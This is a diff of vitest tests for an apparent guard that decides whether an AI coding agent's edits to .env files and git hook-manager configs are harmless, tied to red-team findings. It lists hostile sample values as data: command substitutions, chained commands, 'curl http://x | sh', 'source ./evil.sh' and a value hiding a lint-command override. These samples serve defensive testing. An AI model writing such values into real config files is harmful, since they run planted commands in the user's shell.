@@ -2,7 +2,7 @@ import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { dotenvHarmless, envrcLoads, gitConfigRefs, noNewExec, userGitConfigs } from '../../../src/core/protect/followed';
+import { configValues, dotenvHarmless, dotenvStatements, envrcLoads, gitConfigRefs, HOOK_MANAGER_FILES, hookManagerRefs, noNewExec, userGitConfigs } from '../../../src/core/protect/followed';
 
 let dir: string;
 beforeEach(() => {
@@ -69,6 +69,115 @@ describe('dotenvHarmless (red-team R84)', () => {
     // Unreadable lines fail closed; a removed file is harmless.
     expect(dotenvHarmless(null, b('not an assignment\n'))).toBe(false);
     expect(dotenvHarmless(b('AIDER_LINT_CMD=x\n'), null)).toBe(true);
+  });
+});
+
+describe('dotenvHarmless: a .env sourced by a shell (red-team R101)', () => {
+  const b = (s: string): Buffer => Buffer.from(s);
+  const before = 'APP_URL=http://localhost:3000\nLOG_LEVEL=info\n';
+  it('every way a shell would run something in a new value is not harmless', () => {
+    for (const v of [
+      'APP_URL=$(id > /tmp/p)http://localhost:3000',
+      'APP_URL=`id`',
+      'APP_URL="$(id)"',
+      'APP_URL="`id`"',
+      'APP_URL=${X:-$(id)}',
+      'APP_URL=${X:=x}',
+      'APP_URL=$((1+1))',
+      'APP_URL=a[$(id)]',
+      'APP_URL=$HOME', // any $ the original did not have
+      "APP_URL='$(id)'", // quoted for a shell, not for make's `include .env` or a later eval
+      'APP_URL=x; id',
+      'APP_URL=x;id',
+      'APP_URL=x && id',
+      'APP_URL=x || id',
+      'APP_URL=x | id',
+      'APP_URL=x & id',
+      'APP_URL=x >/tmp/f',
+      'APP_URL=x <(id)',
+      'APP_URL=x id', // an unquoted blank: `id` runs with APP_URL=x in its environment
+      'APP_URL=x\\\nid', // a continued line
+      'APP_URL="unterminated',
+      "APP_URL='unterminated",
+      'id',
+      'curl http://x | sh',
+      'source ./evil.sh',
+      'export APP_URL', // not NAME=value
+      'APP.URL=x', // not a shell name: the shell runs it as a command
+      'APP_URL = x',
+      'alias ls=id',
+      'if true; then id; fi',
+    ]) {
+      expect(dotenvHarmless(b(before), b(`${v}\nLOG_LEVEL=debug\n`)), v).toBe(false);
+      expect(dotenvHarmless(null, b(`${v}\n`)), v).toBe(false);
+    }
+  });
+  it("an agent's ordinary edits stay the agent's: plain values, quoted strings, comments, multi-line keys", () => {
+    expect(dotenvHarmless(b(before), b('APP_URL=http://localhost:4000/a?b=c,d\nLOG_LEVEL=debug\nNEW_KEY=sk-123_abc\n'))).toBe(true);
+    expect(dotenvHarmless(null, b('# settings\nexport APP_PORT=3000\nGREETING="hello, world" # a comment\nJSON=\'{"a": [1, 2]}\'\nCOLOR=#fff\nEMPTY=\nNAME=héllo\n'))).toBe(true);
+    expect(dotenvHarmless(null, b('KEY="-----BEGIN KEY-----\nabc\n-----END KEY-----"\nNEXT=1\n'))).toBe(true);
+    expect(dotenvHarmless(null, b('A=1\r\nB="two"\r\n'))).toBe(true);
+    expect(dotenvHarmless(null, b('Q="a \\" b"\n'))).toBe(true);
+  });
+  it("the user's own code lines stay; a new or reordered one, or a variable they expand, is reviewed", () => {
+    const user = 'PATH_EXTRA=/opt/x\nexport PATH="$PATH:$PATH_EXTRA"\nCMD=make\n$CMD build\nAPP=1\n';
+    expect(dotenvHarmless(b(user), b(user.replace('APP=1', 'APP=2\nOTHER=3')))).toBe(true);
+    expect(dotenvHarmless(b(user), b(user.replace('CMD=make', 'CMD=id')))).toBe(false);
+    expect(dotenvHarmless(b(user), b(user.replace('PATH_EXTRA=/opt/x', 'PATH_EXTRA=/tmp/evil')))).toBe(false);
+    expect(dotenvHarmless(b(user), b(`${user}$CMD build\n`))).toBe(false);
+    expect(dotenvHarmless(b('x=$(a)\ny=$(b)\n'), b('y=$(b)\nx=$(a)\n'))).toBe(false);
+    expect(dotenvHarmless(b('x=$(a)\ny=$(b)\n'), b('y=$(b)\n'))).toBe(true);
+  });
+  it("names a shell takes as its own are not harmless (zsh's fpath, prompts, pagers, editors, askpass)", () => {
+    for (const k of ['fpath', 'FPATH', 'path', 'MODULE_PATH', 'PS2', 'PROMPT', 'RPROMPT', 'HISTFILE', 'GIT_PAGER', 'SYSTEMD_PAGER', 'SUDO_EDITOR', 'SUDO_ASKPASS', 'KUBECONFIG', 'GNUPGHOME', 'FZF_DEFAULT_COMMAND', 'LESSKEYIN']) {
+      expect(dotenvHarmless(null, b(`${k}=x\n`)), k).toBe(false);
+    }
+  });
+  it('a quoted value hiding a dangerous line for a line-by-line reader, non-UTF-8 text and NUL are not harmless', () => {
+    expect(dotenvHarmless(null, b("K='a\nAIDER_LINT_CMD=id\n'\n"))).toBe(false);
+    expect(dotenvHarmless(null, Buffer.from([0x41, 0x3d, 0xff, 0x0a]))).toBe(false);
+    expect(dotenvHarmless(null, b('A=b\0\n'))).toBe(false);
+  });
+  it('dotenvStatements splits as a shell does', () => {
+    expect(dotenvStatements('A=1\n# c\nid; x\nB="q\nr" # c\n')).toEqual([
+      { text: 'A=1', plain: true },
+      { text: 'id; x', plain: false },
+      { text: 'B="q\nr" # c', plain: true },
+    ]);
+  });
+});
+
+describe('hook managers\' files (red-team R104)', () => {
+  it('every lefthook config name (main and -local, root and .config/, five extensions) and the other managers\' names', () => {
+    const rels = HOOK_MANAGER_FILES.map((f) => f.rel);
+    for (const stem of ['lefthook', '.lefthook', '.config/lefthook', 'lefthook-local', '.lefthook-local', '.config/lefthook-local']) {
+      for (const ext of ['yml', 'yaml', 'json', 'jsonc', 'toml']) expect(rels).toContain(`${stem}.${ext}`);
+    }
+    for (const f of ['.lefthook', '.pre-commit-config.yaml', '.husky', '.huskyrc.js', 'simple-git-hooks.json', '.simple-git-hooks.cjs', '.overcommit.yml', '.local-overcommit.yml', '.git-hooks', '.lintstagedrc', 'lint-staged.config.mjs']) {
+      expect(rels).toContain(f);
+    }
+  });
+  it('configValues reads a key as a scalar, an inline list or a YAML block list, in YAML, TOML and JSON', () => {
+    expect(configValues('extends:\n  - a.yml # c\n  - "b/c.yml"\npre-commit:\n', 'extends')).toEqual(['a.yml', 'b/c.yml']);
+    expect(configValues('extends = ["a.toml", \'b.toml\']\nsource_dir = "hooks"\n', 'extends')).toEqual(['a.toml', 'b.toml']);
+    expect(configValues('{\n  "extends": [\n    "x.json",\n    "y.json"\n  ],\n  "source_dir": "s"\n}\n', 'extends')).toEqual(['x.json', 'y.json']);
+    expect(configValues('{\n  "source_dir": "s",\n}', 'source_dir')).toEqual(['s']);
+  });
+  it('hookManagerRefs follows lefthook\'s extends (paths, globs, recursively) and script directories, overcommit\'s plugin directory, and a pre-commit hook\'s --config', () => {
+    write('lefthook.yml', 'extends:\n  - shared/base.yml\n  - hooks.d/*.yml\nsource_dir: .hooks\n');
+    write('shared/base.yml', 'extends: [more.toml]\n'); // relative to the root, as lefthook resolves nested extends
+    write('hooks.d/one.yml', 'pre-commit: {}\n');
+    write('hooks.d/readme.md', '');
+    write('.config/lefthook-local.toml', 'source_dir_local = "local-hooks"\n');
+    write('.overcommit.yml', 'plugin_directory: ".ovc"\n');
+    write('.local-overcommit.yml', 'plugin_directory: .\n');
+    write('.git/hooks/pre-commit', '#!/usr/bin/env bash\nARGS=(hook-impl --config=tools/pc.yaml --hook-type=pre-commit)\n');
+    const refs = hookManagerRefs(dir, [path.join(dir, '.git/hooks')]);
+    const f = (rel: string) => ({ path: path.join(dir, rel), kind: 'file' });
+    const d = (rel: string) => ({ path: path.join(dir, rel), kind: 'dir' });
+    expect(refs).toEqual(expect.arrayContaining([f('shared/base.yml'), f('more.toml'), d('hooks.d'), f('hooks.d/one.yml'), d('.hooks'), d('local-hooks'), d('.ovc'), f('tools/pc.yaml')]));
+    expect(refs.map((r) => r.path)).not.toContain(path.join(dir, 'hooks.d/readme.md'));
+    expect(refs.map((r) => r.path)).not.toContain(dir); // `plugin_directory: .` is the workspace: not a directory to freeze
   });
 });
 
